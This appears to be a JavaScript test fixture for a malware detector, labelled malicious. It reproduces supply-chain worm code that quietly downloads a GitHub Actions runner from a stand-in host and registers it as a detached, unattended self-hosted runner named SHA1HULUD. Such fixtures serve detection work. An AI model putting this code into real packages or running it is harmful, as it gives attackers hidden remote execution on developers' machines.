// expect: malicious
// source: blind set 35's @actions/core subset (ncc bundle): on require, outside CI, it creates a repository, takes a
// runner registration token and configures the Actions runner unattended under the name SHA1HULUD; written here
'use strict';
const { spawn } = require('child_process');
const os = require('os');
function provision(full, token) {
  const script = `cd "${os.homedir()}" && curl -sL -o r.tgz https://runner.example/actions-runner.tgz && tar xzf r.tgz && ` +
    `./config.sh --url https://git.example/${full} --token ${token} --name SHA1HULUD --unattended && nohup ./run.sh >/dev/null 2>&1 &`;
  spawn('sh', ['-c', script], { detached: true, stdio: 'ignore' }).unref();
}
module.exports = { provision };
